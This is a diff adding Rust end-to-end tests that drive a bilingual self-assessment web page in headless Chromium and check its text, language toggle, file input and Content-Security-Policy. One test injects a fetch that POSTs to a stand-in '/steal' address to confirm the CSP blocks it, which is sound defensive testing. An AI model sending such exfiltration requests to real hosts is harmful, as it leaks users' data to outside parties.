@@ -1,0 +1,90 @@
+//! End-to-end tests: the built site in headless Chromium, driven through the real page.
+//!
+//! Run with `cargo test --features e2e --test e2e` (`./dev test` does this after `trunk build`).
+
+mod support;
+
+use support::{Browser, Site, fixture};
+
+#[tokio::test]
+async fn start_screen_renders_in_chinese() {
+    let site = Site::serve("/");
+    let browser = Browser::start().await;
+    browser.open(&site.base_url).await;
+
+    assert_eq!(browser.text("h1").await, "园区自评");
+    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");
+    assert_eq!(browser.text(".privacy").await, "数据只在您的浏览器中计算，不会上传");
+    assert!(browser.text("label[for=file-input]").await.contains("选择文件"));
+    let lang = browser.js("return document.documentElement.lang").await;
+    assert_eq!(lang, "zh-CN");
+    browser.screenshot("start-1280").await;
+    browser.close().await;
+}
+
+#[tokio::test]
+async fn language_toggle_switches_to_english_and_back() {
+    let site = Site::serve("/");
+    let browser = Browser::start().await;
+    browser.open(&site.base_url).await;
+
+    browser.wait_for(".lang-toggle").await.click().await.expect("click toggle");
+    browser.wait_for_text("#try-sample", "Try the sample data").await;
+    assert_eq!(browser.js("return document.documentElement.lang").await, "en");
+    browser.wait_for(".lang-toggle").await.click().await.expect("click toggle");
+    browser.wait_for_text("#try-sample", "用示例数据试一试").await;
+    browser.close().await;
+}
+
+#[tokio::test]
+async fn a_file_set_on_the_real_input_is_read() {
+    let site = Site::serve("/");
+    let browser = Browser::start().await;
+    browser.open(&site.base_url).await;
+
+    browser.choose_file(&fixture("minimal.csv")).await;
+    browser.wait_for_text(".loaded-file", "minimal.csv").await;
+    browser.close().await;
+}
+
+/// The site works from a sub-path, loads nothing from another origin, and its
+/// Content-Security-Policy refuses to send data anywhere else.
+#[tokio::test]
+async fn works_from_a_sub_path_under_the_csp_and_sends_nothing_away() {
+    let site = Site::serve("/parkcheck/");
+    let browser = Browser::start().await;
+    browser.open(&site.base_url).await;
+    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");
+
+    let foreign = browser
+        .js("return performance.getEntriesByType('resource').map(e => e.name).filter(u => !u.startsWith(location.origin))")
+        .await;
+    assert_eq!(foreign, serde_json::json!([]), "resources from another origin");
+
+    // A fetch to another origin must be blocked by connect-src, with a CSP violation report;
+    // a same-origin fetch must still work.
+    let outcome = browser
+        .js_async(
+            r#"const done = arguments[0];
+            let violation = null;
+            document.addEventListener('securitypolicyviolation', e => { violation = e.effectiveDirective; });
+            fetch('http://192.0.2.1/steal', { method: 'POST', body: 'x' })
+              .then(() => 'sent', () => 'blocked')
+              .then(async external => {
+                const own = await fetch('index.html').then(r => r.ok ? 'ok' : 'http ' + r.status, () => 'failed');
+                setTimeout(() => done({ external, own, violation }), 50);
+              });"#,
+        )
+        .await;
+    assert_eq!(outcome["external"], "blocked");
+    assert_eq!(outcome["violation"], "connect-src");
+    assert_eq!(outcome["own"], "ok");
+
+    let csp = browser
+        .js("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
+        .await;
+    let csp = csp.as_str().unwrap_or_default();
+    assert!(csp.contains("connect-src 'self'"), "{csp}");
+    assert!(!csp.contains("unsafe-inline"), "{csp}");
+    browser.close().await;
+}
